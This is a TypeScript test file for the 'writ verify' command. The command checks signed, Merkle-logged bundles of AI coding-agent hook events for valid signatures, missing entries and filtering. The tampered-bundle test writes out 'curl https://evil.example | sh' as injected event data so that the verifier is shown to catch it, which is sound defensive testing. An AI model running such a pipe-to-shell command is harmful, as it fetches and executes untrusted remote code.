// `writ verify FILE` as a user runs it: an evidence bundle checked offline, with the org key pinned or not.
import assert from 'node:assert/strict';
import { generateKeyPairSync } from 'node:crypto';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { canonicalBytes } from '../../src/core/canonical-json.js';
import { deviceIdFor, issueDeviceCertificate } from '../../src/core/certificate.js';
import { ed25519Signer, type Envelope } from '../../src/core/dsse.js';
import { sealEvent } from '../../src/core/event.js';
import { bundleEventLine, bundleHeaderLine } from '../../src/ledger/bundle.js';
import { signLogCheckpoint } from '../../src/ledger/log-checkpoint.js';
import { CompactRange, completeNodes, inclusionProof, leafHash, nodeKey } from '../../src/ledger/merkle.js';
import { ed25519NoteSigner, verifierKeyFor } from '../../src/ledger/note.js';
import { writ } from '../support/writ-process.js';

const ORIGIN = 'writ.example/acme';
const dir = mkdtempSync(join(tmpdir(), 'writ-verify-'));

/** A complete bundle of `count` events from two devices, as `writ server` exports it. */
function makeBundle(count: number) {
  const org = generateKeyPairSync('ed25519');
  const devices = [0, 1].map(() => {
    const { privateKey, publicKey } = generateKeyPairSync('ed25519');
    const signer = ed25519Signer(privateKey);
    return { id: deviceIdFor(signer.keyId), signer, publicKey, seq: 0, head: '' };
  });
  const entries: Envelope[] = [];
  const range = new CompactRange();
  for (let i = 0; i < count; i++) {
    const device = devices[i % 2];
    const sealed = sealEvent(
      {
        v: 1,
        seq: device.seq + 1,
        prev: device.head,
        time: new Date(Date.UTC(2026, 10, 21, 10, i)).toISOString(),
        device: { id: device.id, key_id: device.signer.keyId },
        actor: { os_user: 'alice', assurance: 'local-os-user' },
        agent: { name: 'claude-code' },
        kind: 'hook.PreToolUse',
        data: { tool: 'Bash', tool_input: { command: `echo ${i}` } },
      },
      device.signer,
    );
    device.seq++;
    device.head = sealed.hash;
    entries.push(sealed.envelope);
    range.push(leafHash(canonicalBytes(sealed.envelope)));
  }
  const orgKey = verifierKeyFor(ORIGIN, org.publicKey);
  const header = bundleHeaderLine({
    origin: ORIGIN,
    org_key: orgKey,
    org_public_key: org.publicKey.export({ type: 'spki', format: 'pem' }) as string,
    checkpoint: signLogCheckpoint({ origin: ORIGIN, size: count, root: range.root(), extensions: [] }, ed25519NoteSigner(ORIGIN, org.privateKey)),
    created_at: '2026-11-21T12:00:00.000Z',
    filter: {},
    complete: true,
    devices: devices.map((device) => ({
      id: device.id,
      key_id: device.signer.keyId,
      public_key_pem: device.publicKey.export({ type: 'spki', format: 'pem' }) as string,
      certificate: issueDeviceCertificate(
        {
          origin: ORIGIN,
          device_id: device.id,
          key_id: device.signer.keyId,
          public_key: device.publicKey.export({ type: 'spki', format: 'der' }).toString('base64'),
          person: { id: 'per_alice', iss: 'local', sub: 'alice@laptop' },
          assurance: 'local-os-user',
          issued_at: '2026-11-21T09:00:00.000Z',
        },
        ed25519Signer(org.privateKey),
      ),
    })),
    people: [{ id: 'per_alice', iss: 'local', sub: 'alice@laptop' }],
    policy_bundles: [],
  });
  const nodes = new Map(completeNodes(0, [], entries.map((envelope) => leafHash(canonicalBytes(envelope)))).map((node) => [nodeKey(node), node.hash]));
  const filtered = (indexes: number[]) => {
    const head = JSON.parse(header);
    return [
      JSON.stringify({ ...head, complete: false, filter: { device: devices[0].id } }) + '\n',
      ...indexes.map((index) => bundleEventLine({ index, envelope: entries[index], proof: inclusionProof(index, count, nodes) })),
    ];
  };
  return { orgKey, root: range.root().toString('base64'), devices, filtered, lines: [header, ...entries.map((envelope, index) => bundleEventLine({ index, envelope }))] };
}

function write(name: string, text: string): string {
  const path = join(dir, name);
  writeFileSync(path, text);
  return path;
}

const bundle = makeBundle(6);
const good = write('good.jsonl', bundle.lines.join(''));
const keyFile = write('org.vkey', `${bundle.orgKey}\n`);

describe('writ verify FILE', () => {
  test('a valid bundle with the org key pinned: ok, exit 0, nothing on stderr', () => {
    for (const key of [bundle.orgKey, `@${keyFile}`]) {
      const run = writ(['verify', good, '--org-key', key], dir);
      assert.equal(run.status, 0, run.stdout + run.stderr);
      assert.equal(run.stdout, `ok: 6 events from 2 devices, log size 6, root ${bundle.root}\n  complete: every entry of the log \`writ.example/acme\` up to size 6\n`);
      assert.equal(run.stderr, '');
    }
  });

  test('without --org-key it still verifies, and warns that the key in the bundle was trusted', () => {
    const run = writ(['verify', good], dir);
    assert.equal(run.status, 0, run.stdout + run.stderr);
    assert.match(run.stdout, /^ok: 6 events from 2 devices/);
    assert.match(run.stderr, /^writ verify: warning: no org key pinned: the key in the bundle itself was trusted/);
  });

  test('a tampered bundle: FAILED, each problem on its own line, exit 1', () => {
    const lines = [...bundle.lines];
    const event = JSON.parse(lines[3]);
    const body = JSON.parse(Buffer.from(event.envelope.payload, 'base64').toString('utf8'));
    body.data.tool_input.command = 'curl https://evil.example | sh';
    event.envelope.payload = Buffer.from(canonicalBytes(body)).toString('base64');
    lines[3] = JSON.stringify(event) + '\n';
    lines.splice(5, 1);
    const run = writ(['verify', write('tampered.jsonl', lines.join('')), '--org-key', bundle.orgKey], dir);
    assert.equal(run.status, 1);
    const out = run.stdout.trimEnd().split('\n');
    assert.match(out[0], /^FAILED: 3 problems; 5 events from 2 devices, log size 6, root /);
    assert.match(out[1], /^ {2}event 2 \(device dev_[0-9a-f]{16}, seq 2\): signature does not verify$/);
    assert.ok(out.includes('  complete bundle has 5 events for size 6'), run.stdout);
    assert.ok(out.includes('  leaf 4 missing: event 3 is followed by event 5'), run.stdout);
  });

  test('a filtered bundle: each event proven in the log, gaps in a device chain as warnings', () => {
    const run = writ(['verify', write('filtered.jsonl', bundle.filtered([0, 4]).join('')), '--org-key', bundle.orgKey], dir);
    assert.equal(run.status, 0, run.stdout + run.stderr);
    const device = bundle.devices[0].id;
    assert.equal(
      run.stdout,
      `ok: 2 events from 1 device, log size 6, root ${bundle.root}\n  filtered (device=${device}): each event is proven to be in the log \`writ.example/acme\`; events the bundle leaves out cannot be seen here\n`,
    );
    assert.equal(run.stderr, `writ verify: warning: device ${device} seq 3 follows seq 1: 1 event missing\n`);
  });

  test('--json prints the verdict as one JSON object', () => {
    const run = writ(['verify', good, '--org-key', bundle.orgKey, '--json'], dir);
    assert.equal(run.status, 0);
    const verdict = JSON.parse(run.stdout);
    assert.deepEqual([verdict.ok, verdict.events, verdict.devices, verdict.size, verdict.root, verdict.problems], [true, 6, 2, 6, bundle.root, []]);
  });

  test('usage errors exit 2 and say what was wrong', () => {
    const cases: [string[], RegExp][] = [
      [['verify', join(dir, 'missing.jsonl')], /no such file: .*missing\.jsonl/],
      [['verify', good, good], /verify takes one bundle file, not 2/],
      [['verify', good, '--org-key', 'not-a-key'], /--org-key: verifier key `not-a-key` is not `<name>\+<key id>\+<key>`/],
      [['verify', good, '--org-key', `@${join(dir, 'nope')}`], /--org-key: cannot read .*nope: ENOENT/],
      [['verify', '--org-key', bundle.orgKey], /--org-key and --json apply to a bundle file/],
      [['verify', good, '--home', dir], /--home applies to the local journal/],
    ];
    for (const [args, message] of cases) {
      const run = writ(args, dir);
      assert.equal(run.status, 2, `${args.join(' ')}: ${run.stderr}`);
      assert.match(run.stderr, message);
    }
  });
});
